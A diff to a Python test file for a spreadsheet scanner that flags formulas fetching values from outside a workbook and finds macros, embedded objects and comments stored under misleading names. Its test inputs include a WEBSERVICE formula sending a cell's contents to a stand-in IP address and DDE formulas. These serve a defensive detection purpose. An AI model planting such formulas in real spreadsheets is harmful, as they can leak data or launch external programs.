@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+
 import pytest
 from books_for_reading import MAIN, ods, plain_book, with_parts, with_rows
 from odd_parts import carrying_book, relations
@@ -65,15 +67,47 @@ def test_a_plain_book_carries_nothing(read):
         ("<f>SUM('[12]Mitt blad'!A1:A9)</f>", "B2"),
         ("<f>[1]!Namn</f>", "B2"),
         ('<f t="shared" si="0" ref="B2:B9">[1]Blad!A1</f>', "B2:B9"),
+        ('<f>_xlfn.WEBSERVICE("http://192.0.2.1/?"&amp;A1)</f>', "B2"),
+        ("<f>WEBSERVICE (A1)</f>", "B2"),
+        ('<f>_xlfn.FILTERXML(A1,"//a")</f>', "B2"),
+        ('<f>1+_xlfn._xlws.STOCKHISTORY("MSFT",A1)</f>', "B2"),
+        ('<f>RTD("prog.id",,"x")</f>', "B2"),
+        ('<f>rtd("prog.id",,"x")</f>', "B2"),
+        ('<f>CUBEVALUE("Modell",A1)</f>', "B2"),
+        ('<f>CUBERANKEDMEMBER("Modell",A1,1)</f>', "B2"),
+        ("<f>_xlfn._xlws.PY(0,1)</f>", "B2"),
+        ('<f>DDE("soffice";"fil";"A1")</f>', "B2"),
+        ('<f>IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""x"",""A1"")"),7)</f>', "B2"),
+        ('<f>IFERROR(__xludf.DUMMYFUNCTION("GOOGLEFINANCE(""x"")"),7)</f>', "B2"),
+        ('<f t="array" ref="B2:C4">_xlfn.WEBSERVICE(A1)</f>', "B2:C4"),
+        ("<f>MYRTD(A1)+COPY(A1)+SUM(RTDS)</f>", None),
+        ('<f>IF(A1="IMPORTERAT","x",CUBE)</f>', None),
         ("<f>A1+1</f>", None),
         ("<f>Tabell1[Svar]</f>", None),
         ('<f>SUM(Tabell1[1])&amp;"!"</f>', None),
     ],
 )
 def test_a_value_out_of_another_book_is_marked_as_such(read, formula, cell):
-    found = read(with_rows(f'<row r="2"><c r="B2">{formula}<v>7</v></c></row>'))
-    assert found.sheets[0].value(2, 2) == 7
-    assert [one.cell for one in found.remarks if one.trait is Trait.EXTERNAL_VALUE] == ([cell] if cell else [])
+    rows = f'<row r="2"><c r="B2">{formula}<v>7</v></c></row>'
+    for found in (read(with_rows(rows)), read(with_rows(re.sub("<(/?)(?=[a-z])", r"<\1x:", rows), "x"))):
+        assert found.sheets[0].value(2, 2) == 7
+        assert [one.cell for one in found.remarks if one.trait is Trait.EXTERNAL_VALUE] == ([cell] if cell else [])
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "of:=COM.MICROSOFT.WEBSERVICE([.A1])",
+        "of:=DDE(&quot;a&quot;;&quot;b&quot;;&quot;c&quot;)",
+        "of:=com.microsoft.filterxml([.A1])",
+    ],
+)
+def test_a_value_from_outside_is_marked_in_an_opendocument_book_too(read, formula):
+    cell = f'<table:table-cell table:formula="{formula}" office:value-type="float" office:value="7"/>'
+    found = read(
+        ods(f'<table:table table:name="Blad"><table:table-row>{cell}</table:table-row></table:table>'), "b.ods"
+    )
+    assert [one.cell for one in found.remarks if one.trait is Trait.EXTERNAL_VALUE] == ["A1"]
 
 
 @pytest.mark.parametrize(
@@ -182,3 +216,41 @@ def test_an_opendocument_book_is_noted_alike(read, trait, expected):
 def test_a_name_for_text_is_noted_in_opendocument_too(read):
     found = told(read(ods(TABLE, EXTRA), "bok.ods").remarks, Trait.DEFINED_NAME)
     assert [text for _, _, text in found] == ['N: of:="text"']
+
+
+def elsewhere(kind: str, name: str, data: bytes | str) -> dict[str, bytes | str]:
+    """Lay a part where nobody looks, under a name that says nothing, and let the workbook refer to it."""
+    lines = relations(
+        ("rId1", "worksheet", "worksheets/sheet1.xml"), ("rId2", "styles", "styles.xml"), ("rIdX", kind, f"../{name}")
+    )
+    return {name: data, "xl/_rels/workbook.xml.rels": lines}
+
+
+BOX = (
+    '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:textbox><div>I en ruta</div></v:textbox></v:shape></xml>'
+)
+COMMENTS = f'<comments xmlns="{MAIN}"><commentList><comment ref="B2"><text><t>Ring</t></text></comment></commentList></comments>'
+
+
+@pytest.mark.parametrize(
+    ("kind", "data", "trait", "text"),
+    [
+        ("vbaProject", b"macro", Trait.MACROS, ""),
+        ("oleObject", b"object", Trait.EMBEDDED, "a.dat"),
+        ("package", b"PK\3\4", Trait.EMBEDDED, "a.dat"),
+        ("comments", COMMENTS, Trait.COMMENT, "Ring"),
+        ("comments", "<!-- <worksheet> -->" + COMMENTS, Trait.COMMENT, "Ring"),
+        ("comments", f"<!-- {'x' * 3000} -->" + COMMENTS, Trait.COMMENT, "Ring"),
+        ("vmlDrawing", BOX, Trait.DRAWN_TEXT, "I en ruta"),
+    ],
+)
+@pytest.mark.parametrize("name", ["annat/a.dat", "a.dat"])
+def test_a_part_is_known_by_what_it_is_and_what_refers_to_it_whatever_it_is_called(read, name, kind, data, trait, text):
+    found = read(with_parts(plain_book(), elsewhere(kind, name, data)))
+    assert [one.text for one in found.remarks if one.trait is trait] == [text]
+
+
+@pytest.mark.parametrize("ref", ["A" + "9" * 5000, "\u212a5", "", "A0", "B2:C3", "Ä1"])
+def test_a_comment_on_no_cell_is_noted_for_the_whole_sheet(read, ref):
+    found = read(with_parts(plain_book(), {"xl/comments1.xml": COMMENTS.replace("B2", ref)}))
+    assert told(found.remarks, Trait.COMMENT) == [("", "", "Ring")]
